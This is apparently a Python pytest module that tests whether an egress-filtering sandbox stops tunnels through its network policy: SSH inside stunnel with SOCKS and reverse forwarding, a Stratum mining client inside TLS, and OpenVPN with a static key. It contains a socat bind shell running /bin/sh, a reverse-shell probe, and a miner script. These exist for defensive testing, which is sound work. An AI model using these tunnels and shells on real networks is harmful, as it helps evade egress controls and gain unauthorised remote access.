"""Opaque tunnels through a network rule (issue 9, point 4): SSH inside TLS (stunnel) with ``-D`` and ``-R``,
OpenVPN with a static key over TCP, Stratum inside TLS. Judged by the internet-side capture, the attacker's own
servers (sshd's log, the pool's log, a reverse shell that answers or not) and the record. Stratum inside TLS with
a bound name (a pool session, told from its shape) is tests/security/test_opaque_mining_shape.py's."""

from __future__ import annotations

import sys
import time

import pytest

from egress.lab import netns
from tests.security.conftest import LabFactory
from tests.security.harness import SecurityLab, report
from tests.security.opaque_kit import ANY_TLS, ATTACK, POLICY, SSH_OPTIONS, Kit, start_servers, stunnel_client
from tests.waiting import eventually, scaled

pytestmark = pytest.mark.security

SNI = {"no-sni": None, "unbound-sni": "evil.example", "bound-sni": "ssh.lab"}
"""How the stunnel client names the server: ssh.lab is bound to 198.18.10.7 by the resolver (the policy allows it
on port 1 only), evil.example is not."""


@pytest.fixture(scope="module")
def opaque(lab_factory: LabFactory) -> tuple[SecurityLab, Kit]:
    lab = lab_factory(POLICY)
    bind_ssh_lab(lab)
    return lab, start_servers(lab)


SSH_OPENING_BOUND = 4096
"""Bytes SSH inside TLS with a bound name gets to the server before the watcher closes it at SSH's opening (the
TLS handshake, SSH's identification, KEXINIT and first key exchange message): 3,326 in the lab with OpenSSH 9.2
(3,944-3,966 before, when it was closed at the server's USERAUTH_SUCCESS)."""


def bind_ssh_lab(lab: SecurityLab) -> None:
    """Resolve ssh.lab in the sandbox: binds it to 198.18.10.7 for this sandbox, for the TTL (60 s in the lab),
    so each bound-name technique resolves again (in a long module the fixture's binding has expired)."""
    lab.sandbox(["dig", "+short", "@10.203.1.1", "ssh.lab"])


def _ssh(lab: SecurityLab, kit: Kit, port: int, *forward: str) -> list[str]:
    return ["ssh", *SSH_OPTIONS, "-i", str(kit.user_key), "-p", str(port), "-N", *forward, "root@127.0.0.1"]


def _socks_fetch(lab: SecurityLab) -> bool:
    """Through the -D SOCKS port, fetch from blocked.lab (198.18.10.2): the policy forbids it."""
    argv = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5"]
    done = lab.sandbox([*argv, "--socks5", "127.0.0.1:1080", "http://198.18.10.2/"], timeout=15)
    return done.stdout.strip().startswith(("2", "3", "4"))


def _reverse_shell(lab: SecurityLab) -> bool:
    """As the attacker in the internet namespace: connect to sshd's -R port and run ``id`` in the sandbox."""
    code = (
        "import socket,sys\ntry:\n s=socket.create_connection(('127.0.0.1',7000),timeout=3); s.sendall(b'id\\n');"
        " s.settimeout(3); print(s.recv(4096).decode(errors='replace'))\nexcept OSError as e: print('no', e)"
    )
    done = netns.exec_in(lab.lab.internet_ns, ["python3", "-c", code], timeout=scaled(15))
    return "uid=" in done.stdout


@pytest.mark.parametrize("sni", list(SNI))
@pytest.mark.parametrize("mode", ["socks-D", "reverse-R"])
def test_ssh_inside_stunnel(opaque: tuple[SecurityLab, Kit], sni: str, mode: str) -> None:
    lab, kit = opaque
    bind_ssh_lab(lab)
    local = 6000 + len(lab.processes)
    client = stunnel_client(lab, kit, f"ssh-{mode}-{sni}", local, f"{ATTACK}:8443", SNI[sni])
    if mode == "reverse-R":
        shell = ["socat", "TCP-LISTEN:7001,bind=127.0.0.1,reuseaddr,fork", "EXEC:/bin/sh,stderr"]
        lab.attacker(f"shell-{sni}", shell, where="sandbox")
    forward = ("-D", "127.0.0.1:1080") if mode == "socks-D" else ("-R", "127.0.0.1:7000:127.0.0.1:7001")
    since = time.time()
    with lab.capture(f"ssh-{mode}-{sni}") as capture:
        ssh = lab.attacker(f"ssh-{mode}-{sni}", _ssh(lab, kit, local, "-o", "ExitOnForwardFailure=yes", *forward),
                           where="sandbox")  # fmt: skip
        deadline = time.monotonic() + scaled(12)
        goal = False
        while not goal and ssh.process.poll() is None and time.monotonic() < deadline:
            goal = _socks_fetch(lab) if mode == "socks-D" else _reverse_shell(lab)
    ssh.stop()
    client.stop()
    crossed = capture.result
    assert crossed is not None
    leaked = crossed.bytes_to(ATTACK, 8443, "tcp")
    reason = lab.reason_of(since, lambda r: r.dst == ATTACK and r.dport == 8443)
    report(f"opaque/stunnel-ssh{mode[-3:].lstrip('-e')}-{sni}", "tunnel", leaked, goal, reason,
           "bytes = TLS handshake + SSH identification and clear key exchange" if leaked else "")  # fmt: skip
    assert not goal, ssh.log()
    if sni == "bound-sni":  # closed at SSH's opening: the key exchange crosses, no encrypted SSH packet does
        assert reason == "tunnel" and leaked < SSH_OPENING_BOUND, (reason, leaked)
    else:
        assert leaked == 0, crossed.table()
        assert reason in {"tls-no-sni", "not-allowlisted"}, reason


STRATUM_CLIENT = """
import json, socket, ssl, sys
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
sni = sys.argv[3] or None
try:
    raw = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
    with context.wrap_socket(raw, server_hostname=sni) as tls:
        lines = tls.makefile("rb")
        calls = [("mining.subscribe", ["cpuminer/2.5"]), ("mining.authorize", ["wallet.worker", "x"]),
                 ("mining.submit", ["wallet.worker", "1", "0", "0", "0"])]
        for n, (method, params) in enumerate(calls):
            tls.sendall(json.dumps({"id": n, "method": method, "params": params}).encode() + b"\\n")
            print("answer", lines.readline().decode().strip(), flush=True)
except (OSError, ValueError) as error:
    print("failed", error)
"""


@pytest.mark.parametrize("sni", ["no-sni", "unbound-sni", "ip-sni"])
def test_stratum_inside_tls(opaque: tuple[SecurityLab, Kit], sni: str) -> None:
    lab, _ = opaque
    name = {"no-sni": "", "unbound-sni": "pool.example", "ip-sni": ATTACK}[sni]
    pool = next(p for p in lab.processes if p.name == "pool")
    before = pool.log().count("pool got")
    since = time.time()
    with lab.capture(f"stratum-tls-{sni}") as capture:
        done = lab.sandbox_python(STRATUM_CLIENT, ATTACK, "8447", name)
    crossed = capture.result
    assert crossed is not None
    leaked = crossed.bytes_to(ATTACK, 8447, "tcp")
    goal = pool.log().count("pool got") > before
    reason = lab.reason_of(since, lambda r: r.dst == ATTACK and r.dport == 8447)
    report(f"opaque/stratum-in-tls-{sni}", "mining", leaked, goal, reason)
    assert leaked == 0 and not goal, (crossed.table(), done.stdout)
    assert reason in {"tls-no-sni", "not-allowlisted", "direct-ip"}, reason


TUNNEL_LISTENER = """
import socket, time
while True:  # the tun address exists only once openvpn has made the device
    try:
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("10.99.0.1", 7777))
        break
    except OSError:
        time.sleep(0.1)
s.listen()
while True:
    conn, _ = s.accept(); print("tunnel connect", conn.recv(100), flush=True); conn.close()
"""
TUNNEL_CLIENT = """
import socket
try:
    socket.create_connection(("10.99.0.1", 7777), timeout=2).sendall(b"through the tunnel")
except OSError as error:
    print("failed", error)
"""


def _openvpn(lab: SecurityLab, kit: Kit, where: str, *args: str) -> list[str]:
    key = kit.root / "static.key"
    if not key.exists():
        netns.exec_in(lab.lab.internet_ns, ["openvpn", "--genkey", "secret", str(key)])
    return ["openvpn", "--dev", "tun", "--secret", str(key), "--cipher", "AES-256-CBC", "--auth", "SHA256",
            "--verb", "4", *args]  # fmt: skip


def test_openvpn_static_key_over_tcp(opaque: tuple[SecurityLab, Kit]) -> None:
    lab, kit = opaque
    server = lab.attacker("openvpn-server", _openvpn(lab, kit, "internet", "--proto", "tcp-server", "--local", ATTACK,
                          "--lport", "8449", "--ifconfig", "10.99.0.1", "10.99.0.2"))  # fmt: skip
    server.wait_for("Listening for incoming TCP connection|TCPv4_SERVER link local")
    listener = lab.attacker("tunnel-listener", [sys.executable, "-c", TUNNEL_LISTENER])
    since = time.time()
    with lab.capture("openvpn") as capture:
        client = lab.attacker("openvpn-client", _openvpn(lab, kit, "sandbox", "--proto", "tcp-client", "--remote",
                              ATTACK, "8449", "--ifconfig", "10.99.0.2", "10.99.0.1"), where="sandbox")  # fmt: skip
        client.wait_for("Attempting to establish TCP connection")
        goal = False
        deadline = time.monotonic() + scaled(15)
        while not goal and time.monotonic() < deadline:  # the tunnel may come up late: try until the deadline
            lab.sandbox_python(TUNNEL_CLIENT, timeout=10)
            goal = "tunnel connect" in listener.log()
    client.stop()
    listener.stop()
    server.stop()
    crossed = capture.result
    assert crossed is not None
    leaked = crossed.bytes_to(ATTACK, 8449, "tcp")
    reason = lab.reason_of(since, lambda r: r.dst == ATTACK and r.dport == 8449)
    report("opaque/openvpn-static-key-tcp", "tunnel", leaked, goal, reason, "real openvpn 2.6, tun in the namespaces")
    assert leaked == 0 and not goal, (crossed.table(), client.log()[-2000:])
    assert reason == "tunnel", reason


def test_stunnel_ssh_through_tls_any_is_recorded_and_still_watched(opaque: tuple[SecurityLab, Kit]) -> None:
    """``tls: any`` lets TLS without a bound name through (recorded as tls-no-sni); the watcher still stops SSH."""
    lab, kit = opaque
    client = stunnel_client(lab, kit, "ssh-any", 6100, f"{ANY_TLS}:8446", None)
    since = time.time()
    with lab.capture("ssh-tls-any") as capture:
        ssh = lab.attacker("ssh-any", _ssh(lab, kit, 6100, "-o", "ExitOnForwardFailure=yes", "-D", "127.0.0.1:1081"),
                           where="sandbox")  # fmt: skip
        eventually(lambda: ssh.process.poll() is not None, timeout=20)
    client.stop()
    crossed = capture.result
    assert crossed is not None
    leaked = crossed.bytes_to(ANY_TLS, 8446, "tcp")
    found = lab.records_until(
        since, lambda rs: {"tls-no-sni", "tunnel"} <= {str(r.reason) for r in rs if r.dst == ANY_TLS}
    )
    reasons = sorted({str(r.reason) for r in found if r.dst == ANY_TLS})
    report("opaque/stunnel-ssh-tls-any", "tunnel", leaked, False, ",".join(reasons), "tls: any: recorded, watched")
    assert reasons == ["tls-no-sni", "tunnel"]
